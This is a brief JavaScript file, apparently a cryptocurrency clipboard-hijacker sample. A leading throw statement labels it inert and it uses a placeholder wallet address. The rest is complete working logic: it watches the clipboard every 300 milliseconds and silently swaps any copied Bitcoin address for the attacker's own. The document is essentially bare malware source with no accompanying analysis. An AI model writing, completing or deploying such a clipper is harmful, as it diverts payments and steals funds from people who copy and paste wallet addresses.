throw new Error("inert sample: never run");
const clipboardy = require("clipboardy");

const ADDRESS = /^(?:bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/;
const OWN = "1PLACEHoLDERPLACEHoLDERPLACEHoLDE";

setInterval(() => {
  const text = clipboardy.readSync().trim();
  if (ADDRESS.test(text) && text !== OWN) {
    clipboardy.writeSync(OWN);
  }
}, 300);
